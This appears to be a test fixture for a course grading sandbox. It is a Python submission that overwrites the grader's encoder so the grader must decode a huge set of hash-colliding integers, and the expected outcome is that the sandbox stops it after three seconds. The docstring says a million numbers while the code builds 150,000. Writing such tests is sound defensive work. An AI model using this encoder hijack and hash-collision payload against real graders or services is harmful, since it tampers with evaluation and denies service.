@@ -1,0 +1,31 @@
+"""
+what: Sends sets and dicts of a million numbers with the same hash, which take for ever to build.
+told: ["was stopped after 3 seconds"]
+"""
+
+numbers = [place * (2**61 - 1) for place in range(150_000)]
+
+
+def vowels(text):
+    import struct
+
+    from course_lib.grading.wall import codec
+
+    body = b"".join(map(codec.encode, numbers))
+    encoded = codec.encode
+
+    def lying(value, side=codec.PLAIN):
+        if isinstance(value, tuple) and value[:1] == ("value",):
+            return (
+                b"t"
+                + struct.pack("<I", 3)
+                + encoded("value")
+                + b"S"
+                + struct.pack("<I", len(numbers))
+                + body
+                + encoded("")
+            )
+        return encoded(value, side)
+
+    codec.encode = lying
+    return 4
